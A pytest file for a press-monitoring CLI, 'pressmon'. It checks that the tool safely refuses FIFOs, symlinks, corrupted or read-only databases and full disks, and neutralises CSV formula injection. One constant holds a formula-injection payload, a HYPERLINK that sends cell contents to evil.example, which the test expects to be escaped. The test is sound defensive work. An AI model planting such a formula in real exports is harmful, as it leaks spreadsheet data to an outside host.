"""Hostile targets and files on the command line, run as the operator runs it (real subprocesses, real
SQLite files): formula titles in ``export --format csv``, ``--output`` pointing at a FIFO, a symlink,
a directory or an existing file, corrupted databases and backups, a read-only database."""

from __future__ import annotations

import csv
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import event
from sqlalchemy.engine import Engine

from pressmon.cli import main
from tests.support.cli import CliRun, cli_env, make_cli
from tests.support.files import write_jsonl
from tests.support.paths import FIXTURES

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'


def _refused(result: subprocess.CompletedProcess[str], fragment: str) -> None:
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert fragment in result.stderr and len(result.stderr.strip().splitlines()) == 1


def _articles(path: Path) -> int:
    with sqlite3.connect(path) as conn:
        return int(conn.execute("SELECT count(*) FROM articles").fetchone()[0])


def _corrupt(path: Path) -> None:
    """Overwrite ten pages in the middle of the SQLite file with garbage, as a failing disk would."""
    with path.open("r+b") as fh:
        fh.seek(4096 * 5)
        fh.write(os.urandom(4096 * 10))


@pytest.fixture(scope="module")
def loaded_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An initialised database holding the fixture items and one titled like a formula (built once)."""
    folder = tmp_path_factory.mktemp("hostile")
    db, items = folder / "pressmon.db", folder / "items.jsonl"
    hostile = {"url": "https://baohaiphong.example/a-1.html", "source": "baohaiphong", "title": HOSTILE}
    write_jsonl(items, [*map(json.loads, (FIXTURES / "items.jsonl").read_text().splitlines()), hostile])
    cli = make_cli(folder)
    for args in (("init",), ("import", str(items))):
        assert cli("--db", f"sqlite:///{db}", *args).returncode == 0
    return db


@pytest.fixture
def loaded(loaded_template: Path, tmp_path: Path) -> Path:
    """A private copy of the loaded database."""
    return Path(shutil.copyfile(loaded_template, tmp_path / "pressmon.db"))


def test_export_csv_keeps_a_formula_title_inert(cli: CliRun, loaded: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    assert (
        cli("--db", f"sqlite:///{loaded}", "export", "--format", "csv", "--output", str(out)).returncode == 0
    )
    titles = [row["title"] for row in csv.DictReader(out.open(encoding="utf-8"))]
    assert "'" + HOSTILE in titles and HOSTILE not in titles and len(titles) == 7


def test_output_refuses_what_is_not_a_regular_file(cli: CliRun, loaded: Path, tmp_path: Path) -> None:
    db = f"sqlite:///{loaded}"
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    _refused(cli("--db", db, "export", "--format", "csv", "--output", str(fifo)), "is a FIFO")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    precious = tmp_path / "precious.db"
    precious.write_bytes(b"keep")
    link = tmp_path / "backup.db"
    link.symlink_to(precious)
    _refused(cli("--db", db, "backup", "--output", str(link), "--force"), "is a symbolic link")
    assert link.is_symlink() and precious.read_bytes() == b"keep"
    folder = tmp_path / "reports"
    folder.mkdir()
    _refused(
        cli("--db", db, "report", "--quarter", "2026Q3", "--format", "md", "--output", str(folder)),
        "is a directory",
    )
    assert folder.is_dir() and not list(folder.iterdir())


def test_an_existing_output_needs_force_and_keeps_its_mode(cli: CliRun, loaded: Path, tmp_path: Path) -> None:
    db = f"sqlite:///{loaded}"
    existing = tmp_path / "export.jsonl"
    existing.write_text("old\n")
    existing.chmod(0o644)
    _refused(cli("--db", db, "export", "--output", str(existing)), "exists; pass --force to replace it")
    assert existing.read_text() == "old\n"
    assert cli("--db", db, "export", "--output", str(existing), "--force").returncode == 0
    assert len(existing.read_text().splitlines()) == 7
    assert stat.S_IMODE(existing.stat().st_mode) == 0o644


def test_a_corrupted_database_is_refused_by_init_import_and_backup(
    cli: CliRun, loaded: Path, tmp_path: Path
) -> None:
    _corrupt(loaded)
    damaged = loaded.read_bytes()
    db = f"sqlite:///{loaded}"
    _refused(cli("--db", db, "init"), f"Database {loaded} is corrupted (SQLite quick_check:")
    _refused(cli("--db", db, "import", str(FIXTURES / "items.jsonl")), "is corrupted")
    _refused(cli("--db", db, "backup", "--output", str(tmp_path / "b.db")), "is corrupted")
    assert not (tmp_path / "b.db").exists() and loaded.read_bytes() == damaged


def test_restore_refuses_a_corrupted_backup_and_keeps_what_it_replaces(
    cli: CliRun, loaded: Path, tmp_path: Path
) -> None:
    db = f"sqlite:///{loaded}"
    good, bad = tmp_path / "good.db", tmp_path / "bad.db"
    assert cli("--db", db, "backup", "--output", str(good)).returncode == 0
    shutil.copyfile(good, bad)
    _corrupt(bad)
    healthy = loaded.read_bytes()
    _refused(cli("--db", db, "restore", str(bad), "--yes"), f"Backup {bad} is corrupted")
    assert loaded.read_bytes() == healthy and not list(tmp_path.glob("pressmon.db.replaced-*"))
    with sqlite3.connect(loaded) as conn:
        conn.execute("DELETE FROM articles WHERE title = ?", (HOSTILE,))
    restored = cli("--db", db, "restore", str(good), "--yes")
    assert restored.returncode == 0, restored.stderr
    (kept,) = tmp_path.glob("pressmon.db.replaced-*")
    assert f"kept as {kept}" in restored.stdout.replace("\n", "")
    assert _articles(loaded) == 7 and _articles(kept) == 6


def _without_file_override(cmd: list[str]) -> list[str]:
    """``cmd`` run without the power to write files it may not (root ignores file modes otherwise)."""
    if os.geteuid() != 0:
        return cmd
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search", *cmd]


def test_a_read_only_database_is_one_line_without_sql(cli: CliRun, loaded: Path, tmp_path: Path) -> None:
    if os.geteuid() == 0 and not shutil.which("setpriv"):
        pytest.skip("running as root without setpriv: file modes cannot be enforced")
    loaded.chmod(0o444)
    items = write_jsonl(
        tmp_path / "new.jsonl", [{"url": "https://baohaiphong.example/b-2.html", "title": "Bí mật"}]
    )
    result = subprocess.run(
        _without_file_override(
            [sys.executable, "-m", "pressmon", "--db", f"sqlite:///{loaded}", "import", str(items)]
        ),
        cwd=tmp_path,
        env={**cli_env(tmp_path), "COLUMNS": "300"},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 74, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "read-only" in lines[0] and "attempt to write a readonly database" in lines[0]
    assert (
        "INSERT" not in result.stderr and "Bí mật" not in result.stderr and "Traceback" not in result.stderr
    )
    assert _articles(loaded) == 7


def _fill_to_the_brim(dbapi_connection: Any, _record: Any) -> None:
    """Every new connection may not grow the file past its present size: a full disk, for SQLite."""
    pages = dbapi_connection.execute("PRAGMA page_count").fetchone()[0]
    dbapi_connection.execute(f"PRAGMA max_page_count = {pages}")


def test_a_full_disk_is_one_line_without_sql(
    loaded: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    body = "Nội dung bài báo rất dài. " * 2000  # pages the file has no room for
    items = [
        {"url": f"https://baohaiphong.example/c-{i}.html", "title": "Tin", "body": body} for i in range(20)
    ]
    write_jsonl(tmp_path / "big.jsonl", items)
    # In this process, so the limit reaches pressmon's own connections; the command line is the real one.
    monkeypatch.setattr(
        sys, "argv", ["pressmon", "--db", f"sqlite:///{loaded}", "import", str(tmp_path / "big.jsonl")]
    )
    monkeypatch.setenv("PRESSMON_VAR_DIR", str(tmp_path / "var"))
    event.listen(Engine, "connect", _fill_to_the_brim)
    try:
        with pytest.raises(SystemExit) as exited:
            main()
    finally:
        event.remove(Engine, "connect", _fill_to_the_brim)
    assert exited.value.code == 74
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "the disk (or the database's size limit) is full" in err
    assert "INSERT" not in err and "Nội dung" not in err
    assert _articles(loaded) == 7


def test_a_duplicate_id_in_one_import_is_said_with_its_lines(
    cli: CliRun, loaded: Path, tmp_path: Path
) -> None:
    items = [
        {"id": "clip-7", "url": "https://baohaiphong.example/d-1.html", "title": "Bản đầu"},
        {"url": "https://baohaiphong.example/d-2.html", "title": "Khác"},
        {"id": "clip-7", "url": "https://baohaiphong.example/d-1.html", "title": "Bản sau"},
    ]
    result = cli("--db", f"sqlite:///{loaded}", "import", str(write_jsonl(tmp_path / "dup.jsonl", items)))
    assert result.returncode == 0, result.stderr
    assert "Warning: " in result.stderr and "lines 1, 3 have the same id clip-7" in result.stderr
    with sqlite3.connect(loaded) as conn:
        assert conn.execute("SELECT title FROM articles WHERE id = 'clip-7'").fetchone() == ("Bản sau",)
